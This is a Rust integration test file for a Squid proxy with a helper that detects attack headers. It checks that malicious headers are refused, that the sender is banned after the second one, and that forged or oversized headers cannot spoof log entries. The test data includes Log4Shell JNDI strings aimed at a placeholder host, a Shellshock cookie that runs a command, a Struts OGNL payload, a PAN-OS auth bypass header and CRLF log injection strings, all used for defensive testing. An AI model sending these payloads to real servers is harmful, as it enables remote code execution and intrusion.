//! Rules over headers on the real Squid: the line of the example that hands them over, and what a client can put into a header.

use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use crate::harness::{Daemon, Stage, wait_until};
use crate::rig::{Origin, Squid, get, request};

/// The example with the line for headers in place of the lean one.
fn with_headers(example: &str) -> String {
    let begins = |line: &&str, start: &str| line.starts_with(start);
    let lean = example.lines().find(|line| begins(line, "external_acl_type strikeout_request ")).expect("the lean line");
    let full = example.lines().find(|line| begins(line, "#external_acl_type strikeout_request ")).expect("the line with headers");
    example.replace(&format!("{full}\n"), "").replace(lean, full.trim_start_matches('#'))
}

struct Site {
    squid: Squid,
    daemon: Daemon,
    _origin: Origin,
}

impl Site {
    /// Runs `test` against a site with the example, changed by `change`. Skipped where Squid is missing.
    fn with(change: impl FnOnce(String) -> String, test: impl FnOnce(&Self)) {
        let Some(stage) = Stage::with_squid() else { return };
        let origin = Origin::start();
        let daemon = stage.daemon("");
        let squid = Squid::start(&stage, &origin, &change(with_headers(&stage.squid_example("squid-failopen.conf"))));
        test(&Self { squid, daemon, _origin: origin });
    }

    fn send(&self, client: &str, method: &str, headers: &str) -> u16 {
        let length = if method == "POST" { "Content-Length: 0\r\n" } else { "" };
        request(self.squid.port(), client, method, "/", &format!("{length}{headers}")).expect("an answer").status
    }

    /// The status of a request whose header block is these bytes.
    fn send_raw(&self, headers: &[u8]) -> Option<u16> {
        let mut stream = TcpStream::connect(("127.0.0.1", self.squid.port())).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
        let block = [&b"GET / HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\n"[..], headers, b"\r\n"].concat();
        // Squid may have answered and closed before it has read everything.
        let _ = stream.write_all(&block);
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        String::from_utf8_lossy(&answer).split(' ').nth(1)?.parse().ok()
    }

    fn why(&self, client: &str) -> String {
        self.daemon.json(&["why", client]).to_string()
    }
}

fn unchanged(example: String) -> String {
    example
}

const ATTACKS: [(&str, &str, &str); 7] = [
    ("GET", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n", "log4shell-header"),
    ("GET", "Referer: ${jndi:ldap://198.51.100.9/a}\r\n", "log4shell-header"),
    ("GET", "Accept-Language: ${${lower:j}ndi:ldap://198.51.100.9/a}\r\n", "log4shell-header"),
    ("GET", "Cookie: () { :; }; /usr/bin/id\r\n", "shellshock-header"),
    ("POST", "Next-Action: x\r\n", "next-action-probe"),
    ("POST", "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}\r\n", "struts-content-type"),
    ("GET", "X-PAN-AUTHCHECK: off\r\n", "pan-os-authcheck"),
];

#[test]
fn an_attack_in_a_header_is_refused_and_the_second_one_bans() {
    Site::with(unchanged, |site| {
        for (number, (method, header, rule)) in ATTACKS.into_iter().enumerate() {
            let client = format!("198.51.100.{}", number + 1);
            assert_eq!(site.send(&client, method, header), 429, "{header}");
            assert_eq!(get(site.squid.port(), &client, "/"), 200, "one request proves little: {header}");
            assert_eq!(site.send(&client, method, header), 429, "{header}");
            assert_eq!(get(site.squid.port(), &client, "/"), 429, "after two of {header}");
            assert!(site.why(&client).contains(rule), "{header}: {}", site.why(&client));
        }
        site.squid.assert_clean_log();
    });
}

#[test]
fn evidence_shows_the_header_and_no_cookie() {
    Site::with(unchanged, |site| {
        for (client, header, shown) in [
            ("198.51.100.1", "X-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n", "x-api-version: ${jndi:ldap://198.51.100.9/a}"),
            ("198.51.100.2", "Cookie: () { :; }; secret\r\n", "cookie: (not shown)"),
        ] {
            (0..2).for_each(|_| assert_eq!(site.send(client, "GET", header), 429));
            let why = site.why(client);
            assert!(why.contains(shown) && !why.contains("secret"), "{why}");
        }
    });
}

#[test]
fn ordinary_headers_are_served() {
    Site::with(unchanged, |site| {
        let long = format!("Cookie: session={}; consent=%7B%22a%22%3A1%7D; theme=dark\r\n", "a".repeat(3000));
        let ordinary = [
            ("POST", "Next-Action: 0097e06455409910bf9b7005c13f2609f6f484fa94\r\nAccept: text/x-component\r\n"),
            ("POST", "Content-Type: multipart/form-data; boundary=${boundary}\r\n"),
            ("GET", "Referer: http://example.test/search?q=${jndi:ldap://x}\r\n"),
            ("GET", "Cookie: last=${jndi:ldap://x}; more=() { :; }\r\n"),
            ("GET", "Accept-Language: de-DE,de;q=0.9\r\nIf-Modified-Since: Mon, 23 Nov 2026 01:02:03 GMT\r\nX-Real-IP: 203.0.113.7\r\n"),
            ("GET", "Cookie: -\r\nX-Api-Version:\r\nOrigin: null\r\n"),
            ("GET", long.as_str()),
        ];
        for (method, headers) in ordinary {
            (0..3).for_each(|_| assert_eq!(site.send("203.0.113.1", method, headers), 200, "{headers}: {}", site.why("203.0.113.1")));
        }
        site.squid.assert_clean_log();
    });
}

#[test]
fn no_header_passes_for_another_field_or_another_client() {
    Site::with(unchanged, |site| {
        let forged: [&[u8]; 8] = [
            b"Cookie: status=404\r\n",
            b"Cookie: - - - - - - - - - - - - - - - status=404\r\n",
            b"Cookie: %20%0a7%20198.51.100.77%20GET%20/w00tw00t%20-%20-%20-\r\n",
            b"Cookie: a\r\n 7 198.51.100.77 GET /w00tw00t - - -\r\n",
            b"Cookie: a\r7 198.51.100.77 GET /w00tw00t - - -\r\n",
            b"Cookie: \xff\xfe\xc0\xaf \x01\x7f\x1b[2J\r\n",
            b"spring.cloud.function.routing-expression: x -\r\nNext-Action: - status=200,credentials\r\n",
            b"Cookie: next-action: x\r\nX-Api-Version: x%0d%0anext-action: x\r\n",
        ];
        for headers in forged {
            let text = headers.escape_ascii().to_string();
            let headers = [b"X-Forwarded-For: 203.0.113.1\r\n", headers].concat();
            for _ in 0..3 {
                assert!(matches!(site.send_raw(&headers), Some(200 | 400)), "{text}: {}", site.why("203.0.113.1"));
            }
        }
        assert_eq!(get(site.squid.port(), "198.51.100.77", "/"), 200, "another client is blamed: {}", site.why("198.51.100.77"));
        assert!(!site.squid.cache_log().contains("malformed"), "{}", site.squid.cache_log());
        site.squid.assert_clean_log();
    });
}

#[test]
fn a_header_block_of_any_size_is_judged_or_refused_by_squid_itself() {
    Site::with(unchanged, |site| {
        let attack = b"X-Api-Version: ${jndi:ldap://198.51.100.9/a}\r\n";
        for (client, size) in [("198.51.100.1", 1000), ("198.51.100.2", 30_000), ("198.51.100.3", 60_000)] {
            let from = format!("X-Forwarded-For: {client}\r\n");
            // Bytes of which each is escaped by three.
            let cookie = [&b"Cookie: "[..], &b"\xff\"% ".repeat(size / 4), b"\r\n"].concat();
            assert_eq!(site.send_raw(&[from.as_bytes(), &cookie].concat()), Some(200), "{size}");
            assert_eq!(site.send_raw(&[from.as_bytes(), &cookie, attack].concat()), Some(429), "{size}");
            let many: Vec<u8> = (0..size / 20).flat_map(|number| format!("X-{number}: 0123456789\r\n").into_bytes()).collect();
            assert_eq!(site.send_raw(&[from.as_bytes(), &many, attack].concat()), Some(429), "{size} in many headers");
        }
        // Squid's own limit (request_header_max_size) is 64 KB.
        let too_much = [&b"Cookie: "[..], &b"a".repeat(70_000), b"\r\n"].concat();
        assert!(!matches!(site.send_raw(&too_much), Some(200)));
        let nul = site.send_raw(b"X-Forwarded-For: 198.51.100.4\r\nCookie: a\0b\r\n");
        assert!(nul != Some(429), "{nul:?}");
        assert_eq!(get(site.squid.port(), "203.0.113.9", "/"), 200);
        site.squid.assert_clean_log();
    });
}

#[test]
fn an_attack_behind_the_cut_is_not_seen() {
    Site::with(unchanged, |site| {
        let hidden = |before: usize| format!("X-Api-Version: {}${{jndi:ldap://198.51.100.9/a}}\r\n", "a".repeat(before));
        assert_eq!(site.send("198.51.100.1", "GET", &hidden(100)), 429);
        assert_eq!(site.send("198.51.100.2", "GET", &hidden(300)), 200, "the line cuts at 200 bytes, as it says");
    });
}

#[test]
fn a_format_with_other_headers_than_are_named_serves_everybody_and_says_so() {
    let swapped = |example: String| example.replacen("%#.200{Origin}>h ", "", 1);
    Site::with(swapped, |site| {
        assert_eq!(site.send("198.51.100.1", "GET", ATTACKS[0].1), 200);
        wait_until("the helper says why", || site.squid.cache_log().contains("found 14 headers behind the Referer, expected the 15"));
    });
}

#[test]
fn the_lean_form_sees_no_header() {
    let Some(stage) = Stage::with_squid() else { return };
    let (origin, _daemon) = (Origin::start(), stage.daemon(""));
    let squid = Squid::start(&stage, &origin, &stage.squid_example("squid-failopen.conf"));
    for (method, header, _) in ATTACKS {
        let length = if method == "POST" { "Content-Length: 0\r\n" } else { "" };
        let reply = request(squid.port(), "203.0.113.1", method, "/", &format!("{length}{header}")).expect("an answer");
        assert_eq!(reply.status, 200, "{header}");
    }
}
